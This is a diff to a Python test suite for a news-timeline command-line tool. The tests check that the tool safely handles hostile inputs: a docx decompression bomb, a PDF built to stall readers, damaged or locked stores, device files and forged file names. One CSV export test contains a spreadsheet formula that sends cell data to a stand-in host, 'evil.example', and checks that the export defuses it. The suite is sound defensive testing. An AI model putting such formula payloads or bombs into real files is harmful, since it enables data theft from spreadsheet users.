@@ -42,7 +42,7 @@ from benchmarks.hostile_inputs import (
     slashed_dates,
     table_rows,
 )
-from timeline import events, export, ingest, pipeline
+from timeline import cli, events, export, ingest, pipeline
 from timeline.model import Article, Event, Source
 from timeline.store import Store, StoreDamaged
 
@@ -50,9 +50,26 @@ PROJECT = Path(__file__).resolve().parent.parent
 
 
 def _cli(tmp_path: Path, *argv: str) -> subprocess.CompletedProcess:
-    """`python -m timeline ARGV` as a user runs it, with its store under tmp_path."""
+    """`python -m timeline ARGV` as a user runs it, in a process of its own, with its store under tmp_path."""
     env = {**os.environ, "TIMELINE_DATA_DIR": str(tmp_path / "store")}
     return subprocess.run([sys.executable, "-m", "timeline", *argv], capture_output=True, text=True, cwd=PROJECT, env=env, timeout=300)
+
+
+@pytest.fixture
+def command(tmp_path, monkeypatch, capsys) -> Callable[..., subprocess.CompletedProcess]:
+    """The command line in this process (faster than _cli), its store under tmp_path: the exit
+    status (argparse's for a usage error), stdout and stderr of one call."""
+    monkeypatch.setenv("TIMELINE_DATA_DIR", str(tmp_path / "store"))
+
+    def run(*argv: str) -> subprocess.CompletedProcess:
+        try:
+            status = cli.main(list(argv))
+        except SystemExit as exited:
+            status = exited.code
+        captured = capsys.readouterr()
+        return subprocess.CompletedProcess(argv, status, captured.out, captured.err)
+
+    return run
 
 
 # -- row 1: analysis in time proportional to the text ------------------------------------------
@@ -172,29 +189,35 @@ def test_a_word_document_within_the_limit_is_still_read(tmp_path):
     assert problems == [] and article.text.startswith("It rained in Moscow.")
 
 
-def test_the_command_line_refuses_a_docx_bomb_with_its_message_and_the_store_is_untouched(tmp_path):
+def test_the_command_line_refuses_a_docx_bomb_with_its_message_and_the_store_is_untouched(tmp_path, command):
     bomb = tmp_path / "bomb.docx"
     docx_bomb(bomb, 21_000_000, b"x")
-    before = _cli(tmp_path, "corpus", "list")
-    added = _cli(tmp_path, "corpus", "add", str(bomb))
+    before = command("corpus", "list")
+    added = command("corpus", "add", str(bomb))
     assert added.returncode == 1
-    assert "bomb.docx: the Word document unpacks to 22.0 MB" in added.stderr and "Traceback" not in added.stderr
+    assert "bomb.docx: the Word document unpacks to 22.0 MB" in added.stderr
     assert "0 added, 0 already in the corpus, 1 problem;" in added.stderr
-    assert _cli(tmp_path, "corpus", "list").stdout == before.stdout
+    assert command("corpus", "list").stdout == before.stdout
 
 
 # -- row 3: a PDF whose pages share one large content stream -------------------------------------
 
 
 def test_a_pdf_whose_pages_share_a_large_content_stream_is_stopped_at_the_drawing_budget():
-    pages = 20
-    data = pdf_shared_stream(pages, 30_000)  # about 1 MB of instructions that every page draws again
+    data = pdf_shared_stream(20, 30_000)  # about 1 MB of instructions that every page draws again
     assert len(data) < 5_000
     articles, problems = ingest.read_upload("shared.pdf", data)
     assert articles == []
     assert [p.message for p in problems] == [
         "the PDF's pages draw more than 2 MB of instructions by page 2 (an article's pages hold a few KB each; it may be built to stall readers)"
     ]
+
+
+def test_the_drawing_budget_counts_a_shared_stream_each_time_a_page_draws_it(monkeypatch):
+    monkeypatch.setattr(ingest, "MAX_PDF_DRAWING", 400_000)
+    data = pdf_shared_stream(20, 5_000)  # 175 KB drawn by each page: within the budget once, not 20 times
+    articles, problems = ingest.read_upload("shared.pdf", data)
+    assert articles == [] and problems[0].message.startswith("the PDF's pages draw more than 0.4 MB of instructions by page 3 ")
 
 
 def test_a_pdf_of_more_pages_than_an_article_has_is_refused_before_any_page_is_read():
@@ -236,12 +259,12 @@ def test_csv_cells_a_spreadsheet_would_run_as_formulas_get_a_leading_quote():
     assert safe[0]["title"] == "Talks, day 2" and safe[0]["sentence"] == "Talks began on June 19, 2024."
 
 
-def test_the_command_line_csv_export_of_a_corpus_with_formulas_runs_none(tmp_path):
+def test_the_command_line_csv_export_of_a_corpus_with_formulas_runs_none(tmp_path, command):
     article = tmp_path / "formula.txt"
     article.write_bytes(formula_article())
-    assert _cli(tmp_path, "corpus", "add", str(article)).returncode == 0
+    assert command("corpus", "add", str(article)).returncode == 0
     out = tmp_path / "events.csv"
-    exported = _cli(tmp_path, "export", "--format", "csv", "--out", str(out))
+    exported = command("export", "--format", "csv", "--out", str(out))
     assert exported.returncode == 0 and f"written to {out}" in exported.stderr
     cells = [cell for row in csv.reader(out.open(encoding="utf-8")) for cell in row]
     assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click me\")" in cells
@@ -306,12 +329,11 @@ def test_two_processes_opening_a_new_store_at_once_both_succeed(tmp_path):
 @pytest.fixture(scope="module")
 def stored(tmp_path_factory) -> Path:
     """A store with the sample corpus and its merged events, made once; tests damage copies of it."""
-    folder = tmp_path_factory.mktemp("pristine")
-    assert _cli(folder, "export", "--format", "json", "--out", os.devnull).returncode == 0
-    store = folder / "store" / "timeline.sqlite"
-    with sqlite3.connect(store) as db:
-        db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
-    return store
+    store = pipeline.open_store(tmp_path_factory.mktemp("pristine"))
+    pipeline.ensure_sample_corpus(store)
+    pipeline.sync(store)
+    store.close()  # the last connection: the WAL is checkpointed into the file
+    return Path(store.path)
 
 
 def _copy_of(stored: Path, tmp_path: Path) -> Path:
@@ -321,23 +343,46 @@ def _copy_of(stored: Path, tmp_path: Path) -> Path:
     return store
 
 
-@pytest.mark.parametrize("damage", [overwrite_header, cut_short, garbage_inside, empty_file], ids=lambda f: f.__name__)
-def test_a_damaged_store_gives_one_message_naming_it_and_what_to_do_and_is_kept(stored, tmp_path, damage):
+def test_a_damaged_store_gives_one_message_naming_it_and_what_to_do_and_reset_keeps_it(stored, tmp_path, command):
     store = _copy_of(stored, tmp_path)
-    damage(store)
+    overwrite_header(store)
     damaged = store.read_bytes()
-    for argv in (("corpus", "list"), ("export", "--format", "csv"), ("corpus", "add", str(PROJECT / "README.md"))):
+    for argv in (("corpus", "list"), ("corpus", "add", str(PROJECT / "README.md"))):
         shown = _cli(tmp_path, *argv)
         assert shown.returncode == 1, argv
         assert "Traceback" not in shown.stderr, argv
-        assert f"the corpus store {store} is damaged" in shown.stderr and "corpus reset" in shown.stderr, argv
+        assert shown.stderr == str(StoreDamaged(str(store), "file is not a database")) + "\n", argv
         assert store.read_bytes() == damaged  # never rebuilt, never written
     reset = _cli(tmp_path, "corpus", "reset")
     assert reset.returncode == 0 and "moved" in reset.stderr
     (kept,) = [p for p in store.parent.iterdir() if p.name.startswith("timeline-damaged-")]
     assert kept.read_bytes() == damaged
-    listed = _cli(tmp_path, "corpus", "list")
+    listed = command("corpus", "list")
     assert listed.returncode == 0 and len(listed.stdout.splitlines()) == 5  # a new corpus, with the sample
+
+
+def test_a_store_another_process_keeps_locked_past_the_busy_timeout_is_a_message(stored, tmp_path, command, monkeypatch):
+    from timeline import store as store_module
+
+    monkeypatch.setattr(store_module, "BUSY_TIMEOUT_S", 0.5)
+    holder = sqlite3.connect(_copy_of(stored, tmp_path), isolation_level=None)
+    holder.execute("BEGIN EXCLUSIVE")
+    try:
+        busy = command("corpus", "set-date", "any", "2024-06-20")
+    finally:
+        holder.close()
+    assert busy.returncode == 1 and busy.stderr.startswith("the corpus store is busy: another process kept it locked")
+
+
+@pytest.mark.parametrize("damage", [cut_short, garbage_inside, empty_file], ids=lambda f: f.__name__)
+def test_a_store_cut_short_full_of_garbage_or_empty_is_named_damaged_never_rebuilt(stored, tmp_path, command, damage):
+    store = _copy_of(stored, tmp_path)
+    damage(store)
+    damaged = store.read_bytes()
+    for argv in (("corpus", "list"), ("export", "--format", "csv")):
+        shown = command(*argv)
+        assert shown.returncode == 1 and f"the corpus store {store} is damaged (" in shown.stderr and "corpus reset" in shown.stderr, argv
+        assert shown.stdout == "" and store.read_bytes() == damaged
 
 
 def test_the_dashboard_shows_the_same_message_for_a_damaged_store(stored, tmp_path, monkeypatch):
@@ -351,15 +396,14 @@ def test_the_dashboard_shows_the_same_message_for_a_damaged_store(stored, tmp_pa
     assert [e.value for e in app.error] == [str(StoreDamaged(str(store), "file is not a database"))]
 
 
-def test_a_damaged_cached_event_set_is_merged_again_and_reported(stored, tmp_path):
+def test_a_damaged_cached_event_set_is_merged_again_and_reported(stored, tmp_path, command):
     store = _copy_of(stored, tmp_path)
-    expected = _cli(tmp_path, "export", "--format", "json").stdout
+    expected = command("export", "--format", "json").stdout
     damaged_blob(store)
-    again = _cli(tmp_path, "export", "--format", "json")
-    assert again.returncode == 0 and "Traceback" not in again.stderr
-    assert again.stdout == expected
+    again = command("export", "--format", "json")
+    assert again.returncode == 0 and again.stdout == expected
     assert f"{store}: the cached events could not be read; they were merged again" in again.stderr
-    assert _cli(tmp_path, "export", "--format", "json").stderr == ""  # the set was stored again, sound
+    assert command("export", "--format", "json").stderr == ""  # the set was stored again, sound
 
 
 def test_damaged_cached_mentions_are_analysed_again_and_reported(tmp_path):
@@ -387,17 +431,17 @@ def test_a_backup_is_a_consistent_copy_while_another_process_writes(tmp_path):
     assert [row[0] for row in copy.execute("SELECT file FROM articles")] == ["a.txt"]
 
 
-def test_corpus_backup_writes_a_copy_and_says_where(tmp_path):
+def test_corpus_backup_writes_a_copy_and_says_where(stored, tmp_path, command):
     folder = tmp_path / "backups"
     folder.mkdir()
-    nothing = _cli(tmp_path, "corpus", "backup", str(folder))
+    nothing = command("corpus", "backup", str(folder))
     assert nothing.returncode == 1 and "no corpus store at" in nothing.stderr and not list(folder.iterdir())
-    assert _cli(tmp_path, "corpus", "list").returncode == 0
-    done = _cli(tmp_path, "corpus", "backup", str(folder))
+    _copy_of(stored, tmp_path)
+    done = command("corpus", "backup", str(folder))
     (copy,) = folder.iterdir()
     assert done.returncode == 0 and f"to {copy}" in done.stderr and "(5 articles)" in done.stderr
     assert len(Store(copy).articles()) == 5
-    again = _cli(tmp_path, "corpus", "backup", str(copy))
+    again = command("corpus", "backup", str(copy))
     assert again.returncode == 2 and "already exists" in again.stderr
 
 
@@ -437,15 +481,17 @@ def test_a_date_cell_of_any_length_is_read_as_no_date_at_once():
 # -- row 8: devices and pipes ----------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("link", [False, True], ids=["/dev/zero", "a .txt link to /dev/zero"])
-def test_adding_a_device_is_refused_without_reading_it(tmp_path, link):
-    target = Path("/dev/zero")
-    if link:
-        target = tmp_path / "zero.txt"
-        target.symlink_to("/dev/zero")
-    added = _cli(tmp_path, "corpus", "add", str(target))
+def test_adding_dev_zero_is_refused_without_reading_it(stored, tmp_path):
+    _copy_of(stored, tmp_path)
+    added = _cli(tmp_path, "corpus", "add", "/dev/zero")
     assert added.returncode == 1 and "Traceback" not in added.stderr
-    assert f"{target.name}: not a regular file (a device, a pipe or a socket); only files are read" in added.stderr
+    assert "zero: not a regular file (a device, a pipe or a socket); only files are read" in added.stderr.splitlines()
+
+
+def test_adding_a_txt_link_to_dev_zero_is_refused_without_reading_it(tmp_path):
+    link = tmp_path / "zero.txt"
+    link.symlink_to("/dev/zero")
+    assert ingest.read_bytes(link).message == "not a regular file (a device, a pipe or a socket); only files are read"
 
 
 def test_reading_a_named_pipe_neither_blocks_nor_reads_it(tmp_path):
@@ -467,7 +513,8 @@ def test_a_file_is_never_read_past_the_limit_even_when_it_grows(tmp_path, monkey
 # -- row 9: names shown as data --------------------------------------------------------------------
 
 
-def test_a_file_name_with_a_newline_cannot_forge_a_line_of_the_report(tmp_path):
+def test_a_file_name_with_a_newline_cannot_forge_a_line_of_the_report(stored, tmp_path):
+    _copy_of(stored, tmp_path)
     forged = tmp_path / FORGED_NAME
     forged.write_bytes(b"")
     added = _cli(tmp_path, "corpus", "add", str(forged))
@@ -504,7 +551,7 @@ def test_adding_a_table_takes_time_in_proportion_to_its_rows(tmp_path):
 
 def test_a_closed_pipe_ends_the_command_quietly(tmp_path):
     article = tmp_path / "dates.txt"
-    article.write_text("Published: June 20, 2024\n" + "Talks resumed on June 19, 2024. " * 3000, encoding="utf-8")
+    article.write_text("Published: June 20, 2024\n" + "Talks resumed on June 19, 2024. " * 400, encoding="utf-8")  # 40 KB of output
     env = {**os.environ, "TIMELINE_DATA_DIR": str(tmp_path / "store")}
     tagging = subprocess.Popen([sys.executable, "-m", "timeline", "tag", str(article)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=PROJECT, env=env)
     assert tagging.stdout.readline().startswith(b"{")
@@ -513,9 +560,9 @@ def test_a_closed_pipe_ends_the_command_quietly(tmp_path):
     assert tagging.stderr.read() == b""
 
 
-def test_tag_marks_the_expressions_of_the_dateline(tmp_path):
+def test_tag_marks_the_expressions_of_the_dateline(command):
     seed = next((PROJECT / "data").glob("004_*.txt"))
-    tagged = _cli(tmp_path, "tag", str(seed))
+    tagged = command("tag", str(seed))
     rows = [json.loads(line) for line in tagged.stdout.splitlines()]
     assert [(r["text"], r.get("role")) for r in rows[:3]] == [("2024.10.16", "dateline"), ("09:08", "dateline"), ("June", None)]
     assert sum(r.get("role") == "dateline" for r in rows) == 2
@@ -531,27 +578,27 @@ def test_tag_marks_the_expressions_of_the_dateline(tmp_path):
         (["tag", "no-such-file.txt"], "no-such-file.txt: file not found"),
     ],
 )
-def test_a_missing_folder_or_file_is_a_usage_error(tmp_path, argv, message):
-    done = _cli(tmp_path, *argv)
-    assert done.returncode == 2 and message in done.stderr and "Traceback" not in done.stderr
+def test_a_missing_folder_or_file_is_a_usage_error(command, argv, message):
+    done = command(*argv)
+    assert done.returncode == 2 and message in done.stderr
 
 
-def test_a_folder_without_timeml_documents_scores_nothing_and_fails(tmp_path):
-    done = _cli(tmp_path, "eval-timeml", str(tmp_path))
+def test_a_folder_without_timeml_documents_scores_nothing_and_fails(tmp_path, command):
+    done = command("eval-timeml", str(tmp_path))
     assert done.returncode == 1 and done.stdout == "" and "no TimeML (.tml) files" in done.stderr
 
 
-def test_every_command_that_writes_says_what_and_where(tmp_path):
+def test_every_command_that_writes_says_what_and_where(tmp_path, command):
     out = tmp_path / "events.ics"
-    exported = _cli(tmp_path, "export", "--format", "ics", "--out", str(out))
+    exported = command("export", "--format", "ics", "--out", str(out))
     assert exported.returncode == 0 and exported.stderr.strip().endswith(f"(ics) written to {out}")
     store = tmp_path / "store" / "timeline.sqlite"
-    listed = _cli(tmp_path, "corpus", "list")
+    listed = command("corpus", "list")
     assert listed.stderr.strip() == f"5 articles in the corpus at {store}"
     first = json.loads(listed.stdout.splitlines()[0])
-    dated = _cli(tmp_path, "corpus", "set-date", first["id"], "2024-11-12")
+    dated = command("corpus", "set-date", first["id"], "2024-11-12")
     assert dated.returncode == 0 and f"publication date set to 2024-11-12 in the corpus at {store}" in dated.stderr
-    removed = _cli(tmp_path, "corpus", "remove", first["id"])
+    removed = command("corpus", "remove", first["id"])
     assert removed.returncode == 0 and f"from the corpus at {store}" in removed.stderr
-    unknown = _cli(tmp_path, "corpus", "remove", first["id"])
+    unknown = command("corpus", "remove", first["id"])
     assert unknown.returncode == 1 and f"no article with id {first['id']}" in unknown.stderr
